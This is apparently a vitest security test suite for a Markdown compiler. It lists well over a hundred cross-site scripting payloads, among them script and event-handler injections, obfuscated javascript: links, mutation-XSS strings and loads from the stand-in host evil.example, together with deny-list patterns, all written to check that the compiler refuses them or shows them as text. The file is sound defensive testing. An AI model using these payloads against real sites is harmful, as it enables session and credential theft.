// @vitest-environment jsdom
/** Hostile Markdown: it is refused by name or shown as text, and no markup comes out but the allowed one. */
import { describe, expect, it } from 'vitest';
import { allowedMarkup, compile, compileInline, type CompileOptions } from '../../../src/press/markdown/markdown.ts';
import { markupFaults } from './markup-faults.ts';

const options: CompileOptions = {
  owner: 'x"><script>alert(1)</script>',
  base: '/',
  language: 'en',
  picture: (src) => (src.startsWith('/images/') ? { url: src, width: 1, height: 1 } : undefined),
};

/** Each is refused by name (a code) or shown as text, exactly as given in `shown`. */
const attacks: { attack: string; refused?: string; shown?: string }[] = [
  // script and style
  { attack: '<script>alert(1)</script>', refused: 'A402' },
  { attack: '<ScRiPt\n>alert(1)</sCrIpT\n>', refused: 'A402' },
  { attack: '<script src=//evil.example/x.js>', refused: 'A402' },
  { attack: '<script/x>alert(1)//', refused: 'A402' },
  { attack: '<scr<script>ipt>alert(1)</script>', refused: 'A402' },
  { attack: '<style>@import "//evil.example"</style>', refused: 'A402' },
  { attack: '<link rel=stylesheet href=//evil.example>', refused: 'A402' },
  { attack: '&lt;script>alert(1)&lt;/script>', shown: '<script>alert(1)</script>' },
  { attack: '&#60;script&#x3e;alert(1)', shown: '<script>alert(1)' },
  { attack: '\\<script>alert(1)\\</script>', shown: '<script>alert(1)</script>' },
  // event handlers
  { attack: '<img src=x onerror=alert(1)>', refused: 'A402' },
  { attack: '<img src=x onerror=alert(1) ', refused: 'A402' },
  { attack: '<body onload=alert(1)>', refused: 'A402' },
  { attack: '<details open ontoggle=alert(1)>', refused: 'A402' },
  { attack: '<a href="/x/" onclick="alert(1)">x</a>', refused: 'A402' },
  { attack: '<x onfocus=alert(1) tabindex=1>', refused: 'A402' },
  { attack: '" onmouseover="alert(1)', shown: '" onmouseover="alert(1)' },
  // svg and math
  { attack: '<svg/onload=alert(1)>', refused: 'A402' },
  { attack: '<svg><animate onbegin=alert(1) attributeName=x></svg>', refused: 'A402' },
  { attack: '<svg><use href="data:image/svg+xml,x#y"/></svg>', refused: 'A402' },
  { attack: '<math><mi xlink:href="javascript:alert(1)">x', refused: 'A402' },
  // frames, objects, forms, base, meta
  { attack: '<iframe srcdoc="<img src=x onerror=alert(1)>">', refused: 'A402' },
  { attack: '<object data="javascript:alert(1)">', refused: 'A402' },
  { attack: '<embed src=//evil.example>', refused: 'A402' },
  { attack: '<form action=//evil.example><input name=q></form>', refused: 'A402' },
  { attack: '<button formaction=javascript:alert(1)>', refused: 'A402' },
  { attack: '<base href=//evil.example/>', refused: 'A402' },
  { attack: '<meta http-equiv=refresh content="0;url=//evil.example">', refused: 'A402' },
  // comments, declarations and unfinished ones
  { attack: '<!-- --><img src=x onerror=alert(1)>', refused: 'A402' },
  { attack: '<!--><img src=x onerror=alert(1)>-->', refused: 'A402' },
  { attack: '<!-- never closed', refused: 'A403' },
  { attack: '<?xml-stylesheet href="javascript:alert(1)"?>', refused: 'A402' },
  { attack: '<![CDATA[<script>alert(1)</script>]]>', refused: 'A402' },
  { attack: '<!DOCTYPE html [<!ENTITY x "y">]>', refused: 'A402' },
  // schemes
  { attack: '[x](javascript:alert(1))', refused: 'A401' },
  { attack: '[x](JAVASCRIPT:alert(1))', refused: 'A401' },
  { attack: '[x](<javascript:alert(1)>)', refused: 'A401' },
  { attack: '[x](java&#x09;script:alert(1))', refused: 'A401' },
  { attack: '[x](java&NewLine;script:alert(1))', refused: 'A401' },
  { attack: '[x](java\tscript:alert(1))', refused: 'A401' },
  { attack: '[x](java\nscript:alert(1))', refused: 'A401' },
  { attack: '[x](&#1;javascript:alert(1))', refused: 'A316' },
  { attack: '[x](&#x6A;avascript&colon;alert(1))', refused: 'A401' },
  { attack: '[x](javascript&#58;alert(1))', refused: 'A401' },
  { attack: '[x](javascript\\:alert(1))', refused: 'A401' },
  { attack: '[x](%6aavascript:alert(1))', refused: 'A401' },
  { attack: '[x](javascript:%0aalert(1))', refused: 'A401' },
  { attack: '[x](javascript://a.example/%0aalert(1))', refused: 'A401' },
  { attack: '[x](vbscript:msgbox(1))', refused: 'A401' },
  { attack: '[x](data:text/html;base64,PHNjcmlwdD4=)', refused: 'A401' },
  { attack: '[x](data:image/svg+xml,<svg/onload=alert(1)>)', refused: 'A401' },
  { attack: '[x](blob:https://a.example/1)', refused: 'A401' },
  { attack: '[x](file:///etc/passwd)', refused: 'A401' },
  { attack: '[x](view-source:https://a.example)', refused: 'A401' },
  { attack: '[x](//evil.example)', refused: 'A401' },
  { attack: '[x](/\\evil.example)', refused: 'A401' },
  { attack: '[x](/&Tab;/evil.example)', refused: 'A401' },
  { attack: '[x](https://news.example@evil.example)', refused: 'A401' },
  { attack: '[x](feed:javascript:alert(1))', refused: 'A401' },
  { attack: '[x](java\u2028script:alert(1))', refused: 'A316' },
  { attack: '[x](java\0script:alert(1))', refused: 'A316' },
  // autolinks
  { attack: '<javascript:alert(1)>', refused: 'A401' },
  { attack: '<data:text/html,x>', refused: 'A401' },
  { attack: '<https://a.example/"onmouseover=alert(1)//>', shown: 'https://a.example/"onmouseover=alert(1)//' },
  { attack: 'javascript://a.example', shown: 'javascript://a.example' },
  { attack: 'https://a.example/<img src=x onerror=alert(1)>', refused: 'A402' },
  // reference definitions
  { attack: '[x]\n\n[x]: javascript:alert(1)', refused: 'A401' },
  { attack: '[x][__proto__]\n\n[__proto__]: data:text/html,x', refused: 'A401' },
  { attack: 'x\n\n[unused]: <javascript:alert(1)> "t"', refused: 'A401' },
  // titles and texts that break out
  { attack: '[x](/a/ "&quot; onclick=&quot;alert(1)")', shown: 'x' },
  { attack: "[x](/a/ '\"><script>alert(1)</script>')", shown: 'x' },
  { attack: '[x <img src=y onerror=alert(1)>](/a/)', refused: 'A402' },
  { attack: '[[x](javascript:alert(1))](/a/)', refused: 'A401' },
  { attack: '![[x](javascript:a)](/images/x.jpg)', shown: '' },
  // pictures
  { attack: '![x](javascript:alert(1))', refused: 'A401' },
  { attack: '![x](https://evil.example/pixel.gif)', refused: 'A313' },
  { attack: '![x](/images/../../secret"onerror=alert(1))', shown: '' },
  { attack: '![" onerror="alert(1)](/images/x.jpg)', shown: '' },
  { attack: '![<script>alert(1)</script>](/images/x.jpg "<b>")', shown: '<b>' },
  // footnotes, headings, tables, code
  { attack: 'a[^"><script>]\n\n[^"><script>]: b', shown: 'Notes' },
  { attack: 'a[^1]\n\n[^1]: <script>alert(1)</script>', refused: 'A402' },
  { attack: 'a[^__proto__]', refused: 'A407' },
  { attack: '## __proto__', shown: 'proto' },
  { attack: '## "><img src=x onerror=alert(1)>', refused: 'A402' },
  { attack: '## &quot; id=&quot;location', shown: '" id="location' },
  { attack: '| "><script>alert(1)</script> |\n|-|\n| a |', refused: 'A402' },
  { attack: '| " onfocus="alert(1) |\n|-|\n| a |', shown: '" onfocus="alert(1)' },
  { attack: '```"><script>alert(1)</script>\nx\n```', shown: 'x' },
  { attack: '~~~ js" onclick="alert(1)\nx\n~~~', shown: 'x' },
  { attack: '```\n</code></pre><script>alert(1)</script>\n```', shown: '</code></pre><script>alert(1)</script>' },
  { attack: '`</code><img src=x onerror=alert(1)>`', shown: '</code><img src=x onerror=alert(1)>' },
  { attack: '    <script>alert(1)</script>', shown: '<script>alert(1)</script>' },
  // templates of other programs
  { attack: '{{constructor.constructor("alert(1)")()}}', shown: '{{constructor.constructor("alert(1)")()}}' },
  { attack: '${alert(1)} #{alert(1)} <%= alert(1) %>', shown: '${alert(1)} #{alert(1)} <%= alert(1) %>' },
  { attack: '{::nomarkdown}<script>alert(1)</script>{:/}', refused: 'A402' },
  { attack: 'x{: onclick="alert(1)"}', shown: 'x{: onclick="alert(1)"}' },
  // mutation on parsing again
  { attack: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', refused: 'A402' },
  {
    attack: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    refused: 'A402',
  },
  { attack: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', refused: 'A402' },
  { attack: '<textarea></textarea><img src=x onerror=alert(1)>', refused: 'A402' },
  { attack: '</div></main></body>', refused: 'A402' },
  { attack: '<template shadowrootmode=open><script>alert(1)</script>', refused: 'A402' },
  { attack: '<form id=x><input id=y name=parentNode>', refused: 'A402' },
  { attack: '<a id=location name=cookie>', refused: 'A402' },
  // unusual characters
  { attack: '<img\0src=x\0onerror=alert(1)>', refused: 'A402' },
  { attack: '<\0script>alert(1)', shown: '<\ufffdscript>alert(1)' },
  { attack: 'a\u2028<script>alert(1)</script>', refused: 'A402' },
  { attack: '＜script＞alert(1)＜/script＞', shown: '＜script＞alert(1)＜/script＞' },
  { attack: '+ADw-script+AD4-alert(1)', shown: '+ADw-script+AD4-alert(1)' },
  { attack: 'a\u202e</tpircs>', refused: 'A216' },
  { attack: '[x](/a/ "&#x202e;")', refused: 'A216' },
  { attack: '&lrm;&#8238;a', refused: 'A216' },
];

describe('attacks are refused by name or shown as text', () => {
  it.each(attacks)('$attack', ({ attack, refused, shown }) => {
    const { html, problems } = compile([attack], options);
    expect(markupFaults(html)).toEqual([]);
    const errors = problems.filter(({ warning }) => !warning).map(({ code }) => code);
    const text = elementOf(html).textContent;
    expect({
      refused: errors.find((code) => code === refused) ?? errors[0],
      shown: text.includes(shown ?? '\0') ? shown : undefined,
    }).toEqual({ refused, shown });
  });
});

/** Places in Markdown at which a writer may put anything. */
const doors: Record<string, (attack: string) => string> = {
  'link address': (attack) => `[x](${attack})`,
  'link text': (attack) => `[${attack}](/a/)`,
  'link title': (attack) => `[x](/a/ "${attack}")`,
  'alternative text': (attack) => `![${attack}](/images/x.jpg)`,
  caption: (attack) => `![x](/images/x.jpg "${attack}")`,
  'picture address': (attack) => `![x](${attack})`,
  heading: (attack) => `## ${attack}`,
  quote: (attack) => `> - ${attack}`,
  cell: (attack) => `| ${attack} | b |\n|-|:-:|\n| c | ${attack} |`,
  code: (attack) => `\`\`\`${attack}\n${attack}\n\`\`\``,
  note: (attack) => `a[^${attack}] [^1]\n\n[^${attack}]: b\n\n[^1]: ${attack}`,
  definition: (attack) => `[x][1]\n\n[1]: <${attack}> "${attack}"`,
  'angle brackets': (attack) => `<${attack}>`,
};

describe('no attack gets more than the allowed markup', () => {
  it.each(Object.entries(doors))('as %s', (_door, through) => {
    const faults = attacks.flatMap(({ attack }) =>
      ['en', 'ur'].flatMap((language) => [
        ...markupFaults(compile([through(attack)], { ...options, language }).html),
        ...markupFaults(compileInline(through(attack), { ...options, language }).html),
      ]),
    );
    expect(faults).toEqual([]);
  });

  it('and the words of the interface are shown as text', () => {
    const words = { note: () => '"><b>', back: '"><b>', notes: '<b>', table: () => '"><b>' };
    const { html } = compile(['a[^1]', '[^1]: b', '| c |\n|-|\n| d |'], { ...options, words });
    expect(markupFaults(html)).toEqual([]);
  });
});

describe('the checker itself', () => {
  const bad = [
    '<script>1</script>',
    '<p onclick="a">',
    '<a href="javascript:a">x</a>',
    '<p style="a">',
    '<p class="x">',
    '<img src="//a">',
    '<h2 id="location">',
    '</div><p>',
    '<!-- a -->',
    '<svg></svg>',
    '<code class="language-">',
    '<p title="a">',
  ];
  it.each(bad)('sees %s', (html) => expect(markupFaults(html)).not.toEqual([]));
});

describe('the list of allowed markup', () => {
  const { elements, everywhere } = allowedMarkup;
  const attributes = new Set([...Object.values(elements).flat(), ...everywhere]);

  it('is short', () => {
    expect(Object.keys(elements).length).toBeLessThanOrEqual(45);
    expect(attributes.size).toBeLessThanOrEqual(25);
  });

  it('has nothing that runs, loads or restyles', () => {
    expect(
      Object.keys(elements).filter((name) =>
        /script|style|frame|object|embed|form|input|base|meta|link|svg|math|template/.test(name),
      ),
    ).toEqual([]);
    expect([...attributes].filter((name) => /^on|style|srcdoc|action|target|name/.test(name))).toEqual([]);
  });
});

function elementOf(html: string): HTMLElement {
  const element = document.createElement('div');
  element.innerHTML = html;
  return element;
}
